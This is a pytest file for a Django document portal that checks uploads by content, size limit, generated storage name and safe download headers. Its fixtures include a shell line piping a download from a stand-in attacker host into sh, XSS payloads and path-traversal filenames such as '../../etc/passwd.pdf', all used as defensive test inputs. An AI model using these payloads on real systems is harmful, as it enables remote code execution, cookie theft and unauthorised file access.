"""Every file someone can upload is checked by its content, not its name; refused over its size
limit, with the limit named; stored under a name the portal makes up; and served so that no
stored file can run as a page of the site.

``UPLOADS`` lists each upload field with the form people really use to send it (the public
request form, the admin's add and change pages) and the view that serves it back: a new upload
field is one more row, and every test below runs on it. The catalog import spreadsheet is read,
not kept as a file of a record, so it has its own tests at the end. Notices and report PDFs are
made by the portal, never uploaded.
"""

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath

import pytest
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.db.models import Model, QuerySet
from django.template.defaultfilters import filesizeformat
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook
from PIL import Image

from agencies.demo import demo_pdf
from agencies.models import InternalRegulation, regulation_upload_to
from catalogs import importers
from catalogs.models import CatalogEntry, CatalogFile, entry_file_upload_to
from requests_app import services
from requests_app.models import (
    InformationRequest,
    Notice,
    RequestAttachment,
    ResponseFile,
)
from requests_app.models.notices import notice_upload_to
from requests_app.models.request import attachment_upload_to, response_upload_to
from tests import factories
from tests.catalogs.test_admin import _entry_form
from tests.requests_app.test_admin import _change_form_data
from tests.requests_app.test_public_form import _form as _public_form

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    cache.clear()  # the public form allows 10 submissions an hour per address


# --- real files of each accepted kind -------------------------------------------------------


def real_pdf() -> bytes:
    return demo_pdf("123/QD-TEST")


def real_docx() -> bytes:
    """The smallest Word document Word opens: content types, the package relation, a body."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
            '-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Giấy ủy quyền</w:t></w:r></w:p>'
            "</w:body></w:document>",
        )
    return buffer.getvalue()


def real_xlsx() -> bytes:
    buffer = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["Số liệu", 2025])
    workbook.save(buffer)
    return buffer.getvalue()


def _image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(buffer, kind)
    return buffer.getvalue()


def real_png() -> bytes:
    return _image("PNG")


def real_jpeg() -> bytes:
    return _image("JPEG")


PDF_ONLY = (("quyet-dinh.pdf", real_pdf),)
DOCUMENTS = (
    ("van-ban.pdf", real_pdf),
    ("giay-uy-quyen.docx", real_docx),
    ("bang-so-lieu.xlsx", real_xlsx),
    ("anh-chup.png", real_png),
    ("anh-chup.jpg", real_jpeg),
)

# What an attacker sends under a harmless name: a page, a script, a program, a live SVG, and a
# real file of another kind than its name says.
HOSTILE_CONTENTS = {
    "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
    "shell-script": b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n",
    "windows-program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200),
    "svg-with-script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "docx-named-pdf": real_docx(),
}

HOSTILE_NAMES = (
    "../../etc/passwd.pdf",
    "..\\..\\windows\\win.ini.pdf",
    "<script>alert(1)</script>.pdf",
    ("Báo cáo quyết toán ngân sách nhà nước năm 2025 của Ủy ban nhân dân tỉnh An Giang " * 4)[:240]
    + ".pdf",
)


# --- sending a file as a browser does -------------------------------------------------------

BOUNDARY = "portal-upload-test-boundary"


def post_multipart(client: Client, url: str, data: dict, files: dict):
    """POST ``data`` and ``files`` ({field: (file name, bytes)}) as a browser would.

    Django's test client keeps only the last part of a file name before sending it; an
    attacker's client sends whatever name it likes, so the body is built by hand.
    """
    chunks = []
    for name, value in data.items():
        for item in value if isinstance(value, list | tuple) else [value]:
            head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            chunks.append(f"{head}{item}\r\n".encode())
    for name, (filename, content) in files.items():
        head = (
            f"--{BOUNDARY}\r\n"
            f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
            "Content-Type: application/pdf\r\n\r\n"
        )
        chunks.append(head.encode() + content + b"\r\n")
    body = b"".join(chunks) + f"--{BOUNDARY}--\r\n".encode()
    return client.post(url, body, content_type=f"multipart/form-data; boundary={BOUNDARY}")


# --- the upload fields ----------------------------------------------------------------------


def _send_regulation(officer, agency, filename, content):
    return post_multipart(
        officer,
        reverse("admin:agencies_internalregulation_add"),
        {
            "title": "Quy chế cung cấp thông tin",
            "decision_number": "1/QĐ-STC",
            "decision_date": "01/09/2025",
            "effective_date": "01/09/2025",
        },
        {"signed_file": (filename, content)},
    )


def _send_catalog_file(officer, agency, filename, content):
    entry = factories.CatalogEntryFactory(
        agency=agency, status=CatalogEntry.Status.DRAFT, published_at=None
    )
    data = _entry_form(
        entry,
        **{
            "files-TOTAL_FORMS": "1",
            "files-0-title": "Toàn văn",
            "files-0-classification": "public",
        },
    )
    url = reverse("admin:catalogs_catalogentry_change", args=[entry.pk])
    return post_multipart(officer, url, data, {"files-0-file": (filename, content)})


def _send_consent_file(officer, agency, filename, content):
    # The citizen is anonymous: a browser of their own, not the officer's session.
    return post_multipart(
        Client(),
        reverse("requests_app:submit"),
        _public_form(agency),
        {"consent_file": (filename, content)},
    )


def _send_representation_file(officer, agency, filename, content):
    data = _public_form(
        agency,
        requester_kind="representative",
        represented_name="Nguyễn Văn An",
        represented_relation="Người giám hộ",
    )
    return post_multipart(
        Client(), reverse("requests_app:submit"), data, {"representation_file": (filename, content)}
    )


def _send_attachment_in_admin(officer, agency, filename, content):
    """An officer enters a request received by post, with the consent it came with."""
    data = factories.request_received_by_post(
        **{"attachments-TOTAL_FORMS": "1", "attachments-0-kind": "consent"}
    )
    url = reverse("admin:requests_app_informationrequest_add")
    return post_multipart(officer, url, data, {"attachments-0-file": (filename, content)})


def _send_response_file(officer, agency, filename, content):
    req = factories.make_request(agency)
    url = reverse("admin:requests_app_informationrequest_change", args=[req.pk])
    data = _change_form_data(
        officer.get(url),
        **{"response_files-TOTAL_FORMS": "1", "response_files-0-title": "Văn bản cung cấp"},
    )
    return post_multipart(officer, url, data, {"response_files-0-file": (filename, content)})


def _request_page(obj):
    return reverse("admin:requests_app_informationrequest_change", args=[obj.request_id])


@dataclass(frozen=True)
class UploadField:
    id: str
    send: Callable  # (officer's client, agency, file name, bytes) -> response
    stored: Callable[[object], QuerySet]  # agency -> the rows holding the uploaded files
    attribute: str
    limit_setting: str
    refusal: str  # what the form says of a file whose content is not what its name says
    accepts: tuple = field(default=DOCUMENTS)
    download_url: Callable[[Model], str] = None
    page_url: Callable[[Model], str] = None  # where an officer sees the file listed


NOT_A_PDF = "Tệp này không phải văn bản PDF"
MISMATCH = "Nội dung tệp không khớp với tên tệp"

UPLOADS = (
    UploadField(
        "internal-regulation",
        _send_regulation,
        lambda agency: InternalRegulation.objects.filter(agency=agency),
        "signed_file",
        "PORTAL_MAX_PDF_BYTES",
        NOT_A_PDF,
        accepts=PDF_ONLY,
        download_url=lambda o: reverse("admin:agencies_internalregulation_file", args=[o.pk]),
        page_url=lambda o: reverse("admin:agencies_internalregulation_change", args=[o.pk]),
    ),
    UploadField(
        "catalog-file",
        _send_catalog_file,
        lambda agency: CatalogFile.objects.filter(entry__agency=agency),
        "file",
        "PORTAL_MAX_DOCUMENT_BYTES",
        MISMATCH,
        download_url=lambda o: reverse("admin:catalogs_catalogfile_download", args=[o.pk]),
        page_url=lambda o: reverse("admin:catalogs_catalogentry_change", args=[o.entry_id]),
    ),
    UploadField(
        "request-consent-file",
        _send_consent_file,
        lambda agency: RequestAttachment.objects.filter(request__agency=agency, kind="consent"),
        "file",
        "PORTAL_MAX_DOCUMENT_BYTES",
        MISMATCH,
        download_url=lambda o: reverse("admin:requests_app_attachment_download", args=[o.pk]),
        page_url=_request_page,
    ),
    UploadField(
        "request-representation-file",
        _send_representation_file,
        lambda agency: RequestAttachment.objects.filter(
            request__agency=agency, kind="representation"
        ),
        "file",
        "PORTAL_MAX_DOCUMENT_BYTES",
        MISMATCH,
        download_url=lambda o: reverse("admin:requests_app_attachment_download", args=[o.pk]),
        page_url=_request_page,
    ),
    UploadField(
        "request-attachment-in-admin",
        _send_attachment_in_admin,
        lambda agency: RequestAttachment.objects.filter(request__agency=agency),
        "file",
        "PORTAL_MAX_DOCUMENT_BYTES",
        MISMATCH,
        download_url=lambda o: reverse("admin:requests_app_attachment_download", args=[o.pk]),
        page_url=_request_page,
    ),
    UploadField(
        "response-file",
        _send_response_file,
        lambda agency: ResponseFile.objects.filter(request__agency=agency),
        "file",
        "PORTAL_MAX_DOCUMENT_BYTES",
        MISMATCH,
        # The requester's own signed link from the tracking page, not the admin.
        download_url=lambda o: reverse("requests_app:download", args=[services.download_token(o)]),
        page_url=_request_page,
    ),
)

each_upload = pytest.mark.parametrize("upload", UPLOADS, ids=[u.id for u in UPLOADS])
each_accepted_file = pytest.mark.parametrize(
    ("upload", "filename", "make"),
    [(u, name, make) for u in UPLOADS for name, make in u.accepts],
    ids=[f"{u.id}-{name}" for u in UPLOADS for name, _make in u.accepts],
)


@pytest.fixture
def officer(client, officer_a):
    client.force_login(officer_a)
    return client


def _only_stored_file(upload, agency):
    rows = list(upload.stored(agency))
    assert len(rows) == 1, f"{len(rows)} rows stored"
    return rows[0], getattr(rows[0], upload.attribute)


def _refused(response, upload, agency) -> str:
    assert response.status_code in (200, 400), response.status_code  # the form, again
    assert not upload.stored(agency).exists()
    return response.content.decode()


# --- by content -----------------------------------------------------------------------------


@each_upload
@pytest.mark.parametrize("content", HOSTILE_CONTENTS.values(), ids=HOSTILE_CONTENTS.keys())
def test_a_file_whose_content_is_not_what_its_name_says_is_refused_in_vietnamese(
    officer, agency_a, upload, content
):
    response = upload.send(officer, agency_a, "quyet-dinh.pdf", content)

    assert upload.refusal in _refused(response, upload, agency_a)


@each_upload
def test_the_refusal_shows_the_senders_file_name_as_text(officer, agency_a, upload):
    # Django keeps only what follows the last "/", so this is the name the form repeats.
    response = upload.send(officer, agency_a, "<img src=x onerror=alert(1)>.pdf", b"<html>")

    page = _refused(response, upload, agency_a)
    assert "<img src=x onerror" not in page
    if upload.refusal == MISMATCH:  # the document fields name the file they refuse
        assert "&lt;img src=x onerror=alert(1)&gt;.pdf" in page


@each_accepted_file
def test_a_real_file_is_accepted_and_comes_back_unchanged(
    officer, agency_a, upload, filename, make
):
    content = make()

    response = upload.send(officer, agency_a, filename, content)

    assert response.status_code == 302, response.content.decode()[:3000]
    row, _stored = _only_stored_file(upload, agency_a)
    assert b"".join(officer.get(upload.download_url(row)).streaming_content) == content


@each_upload
def test_a_real_file_of_a_kind_the_field_does_not_take_is_refused(officer, agency_a, upload):
    # An image where a signed PDF is asked for; an HTML page (real, and named so) elsewhere.
    filename, content = (
        ("quyet-dinh.png", real_png())
        if upload.accepts == PDF_ONLY
        else ("trang.html", HOSTILE_CONTENTS["html"])
    )

    response = upload.send(officer, agency_a, filename, content)

    expected = NOT_A_PDF if upload.accepts == PDF_ONLY else "Chấp nhận tệp PDF, Word, Excel"
    assert expected in _refused(response, upload, agency_a)


# --- by size --------------------------------------------------------------------------------

LIMIT = 200 * 1024


def _pdf_of_size(size: int) -> bytes:
    """A real PDF grown to ``size`` bytes by a comment before a final end-of-file marker."""
    pdf, ending = real_pdf(), b"\n%%EOF\n"
    padding = size - len(pdf) - len(ending) - 1
    assert padding > 0
    return pdf + b"%" + b"0" * padding + ending


@each_upload
def test_a_file_over_the_limit_is_refused_and_the_message_gives_the_limit(
    officer, agency_a, upload, settings
):
    setattr(settings, upload.limit_setting, LIMIT)

    response = upload.send(officer, agency_a, "van-ban.pdf", _pdf_of_size(LIMIT + 1))

    with translation.override("vi"):
        limit = filesizeformat(LIMIT)
    assert f"vượt giới hạn {limit}" in _refused(response, upload, agency_a)


@each_upload
def test_a_file_of_exactly_the_limit_is_accepted(officer, agency_a, upload, settings):
    setattr(settings, upload.limit_setting, LIMIT)

    response = upload.send(officer, agency_a, "van-ban.pdf", _pdf_of_size(LIMIT))

    assert response.status_code == 302
    assert _only_stored_file(upload, agency_a)[1].size == LIMIT


# --- under a generated name -----------------------------------------------------------------

SAFE_PART = re.compile(r"[a-z0-9][a-z0-9._-]*")


def assert_generated_name(stored, media_root: Path) -> None:
    parts = PurePosixPath(stored.name).parts
    assert all(SAFE_PART.fullmatch(part) for part in parts), stored.name
    assert ".." not in parts and "etc" not in parts and "windows" not in parts
    # A random part first, so the name cannot be guessed from the sender's file name.
    assert re.match(r"[0-9a-f]{8}-", parts[-1]), parts[-1]
    assert len(parts[-1]) <= 80
    path = (media_root / stored.name).resolve()
    assert path.is_file() and path.is_relative_to(Path(media_root).resolve())


@each_upload
@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "backslash", "script", "long"])
def test_the_senders_file_name_never_becomes_a_path(officer, agency_a, upload, filename, settings):
    response = upload.send(officer, agency_a, filename, real_pdf())

    assert response.status_code == 302, response.content.decode()[:3000]
    row, stored = _only_stored_file(upload, agency_a)
    assert_generated_name(stored, settings.MEDIA_ROOT)
    page = officer.get(upload.page_url(row)).content.decode()
    assert PurePosixPath(stored.name).name in page  # the officer sees the stored name…
    assert "<script>alert(1)" not in page  # …and nothing of the sender's name runs


@each_upload
def test_two_files_sent_under_the_same_name_are_stored_apart(officer, agency_a, upload):
    upload.send(officer, agency_a, "quyet-dinh.pdf", real_pdf())
    upload.send(officer, agency_a, "quyet-dinh.pdf", _pdf_of_size(len(real_pdf()) + 100))

    names = [getattr(row, upload.attribute).name for row in upload.stored(agency_a)]
    assert len(names) == len(set(names)) == 2


UPLOAD_TO = {
    "internal-regulation": lambda name: regulation_upload_to(InternalRegulation(agency_id=3), name),
    "catalog-file": lambda name: entry_file_upload_to(
        CatalogFile(entry=CatalogEntry(pk=5, agency_id=3)), name
    ),
    "request-attachment": lambda name: attachment_upload_to(
        RequestAttachment(request=InformationRequest(pk=7, agency_id=3)), name
    ),
    "response-file": lambda name: response_upload_to(
        ResponseFile(request=InformationRequest(pk=7, agency_id=3)), name
    ),
    "notice": lambda name: notice_upload_to(Notice(agency_id=3, year=2025), name),
}


@pytest.mark.parametrize("upload_to", UPLOAD_TO.values(), ids=UPLOAD_TO.keys())
@pytest.mark.parametrize("filename", [*HOSTILE_NAMES, "/etc/cron.d/x.pdf", "a/../../b.pdf"])
def test_a_name_that_reaches_the_storage_unsanitised_still_stays_in_its_folder(upload_to, filename):
    # Code that saves a file itself (an import, a migration) skips Django's upload parser,
    # which already keeps only the last part of a browser's name.
    parts = PurePosixPath(upload_to(filename)).parts

    assert all(SAFE_PART.fullmatch(part) for part in parts)
    assert parts[:-1] in {
        ("regulations", "3"),
        ("catalogs", "3", "5"),
        ("notices", "3", "2025"),
    } | {(folder, "3", "7") for folder in ("requests", "responses")}


# --- served so that nothing runs ------------------------------------------------------------


SAFE_DISPOSITION = re.compile(r'(inline|attachment); filename="[A-Za-z0-9._-]+"')


@each_accepted_file
def test_a_download_is_never_run_as_a_page_of_the_site(officer, agency_a, upload, filename, make):
    upload.send(officer, agency_a, "<script>alert(1)</script>" + filename, make())
    row, _stored = _only_stored_file(upload, agency_a)

    response = officer.get(upload.download_url(row))

    assert response["X-Content-Type-Options"] == "nosniff"
    # The admin adds Django's never_cache values; either way no shared cache keeps the file.
    assert {"private", "no-store"} <= set(response["Cache-Control"].replace(" ", "").split(","))
    assert SAFE_DISPOSITION.fullmatch(response["Content-Disposition"])
    if filename.endswith(".pdf"):  # Chrome's PDF viewer does not run in a sandbox
        assert response["Content-Type"] == "application/pdf"
    else:
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_a_stored_page_that_escaped_the_checks_is_downloaded_never_shown(agency_a, client):
    # A file stored before the checks existed, or by code that skipped them.
    req = factories.make_request(agency_a)
    page = ResponseFile.objects.create(
        request=req, file=ContentFile(b"<script>alert(document.cookie)</script>", name="x.html")
    )

    response = client.get(reverse("requests_app:download", args=[services.download_token(page)]))

    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"


# --- the catalog import spreadsheet ---------------------------------------------------------


def _template_xlsx() -> bytes:
    buffer = io.BytesIO()
    importers.template_workbook().save(buffer)
    return buffer.getvalue()


def _import(officer, filename, content):
    return post_multipart(
        officer,
        reverse("admin:catalogs_catalogentry_import"),
        {"_preview": "1"},
        {"file": (filename, content)},
    )


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        ("danh-muc.xlsx", HOSTILE_CONTENTS["html"], "Không đọc được tệp Excel (.xlsx) này."),
        ("danh-muc.xlsx", real_docx(), "Không đọc được tệp Excel (.xlsx) này."),
        ("danh-muc.pdf", real_pdf(), "Hãy tải lên tệp .csv hoặc .xlsx."),
        ("danh-muc.html", HOSTILE_CONTENTS["html"], "Hãy tải lên tệp .csv hoặc .xlsx."),
        ("danh-muc.csv", "Tên văn bản".encode("utf-16"), "Hãy lưu tệp CSV với bảng mã UTF-8."),
    ],
    ids=["html-as-xlsx", "docx-as-xlsx", "pdf", "html", "csv-not-utf8"],
)
def test_an_import_file_that_is_not_a_spreadsheet_is_refused_in_vietnamese(
    officer, filename, content, message
):
    response = _import(officer, filename, content)

    assert message in response.content.decode()
    assert "token" not in response.context
    assert not CatalogEntry.objects.exists()


def test_an_import_file_over_10_mb_is_refused_and_the_message_gives_the_limit(officer):
    response = _import(officer, "danh-muc.xlsx", b"0" * (importers.MAX_BYTES + 1))

    assert "Tệp lớn hơn 10 MB" in response.content.decode()
    assert "token" not in response.context


@pytest.mark.parametrize(
    "filename",
    ["../../etc/passwd.xlsx", "<script>alert(1)</script>.xlsx", "Danh mục " * 25 + ".xlsx"],
)
def test_an_import_file_waits_for_confirmation_under_a_generated_name(officer, filename, settings):
    response = _import(officer, filename, _template_xlsx())

    assert response.context["preview"].is_valid
    pending = officer.session["catalog_imports"][response.context["token"]]
    assert re.fullmatch(r"imports/[0-9a-f]{32}\.xlsx", pending["path"])
    assert (Path(settings.MEDIA_ROOT) / pending["path"]).is_file()
    assert "<script>alert(1)" not in response.content.decode()
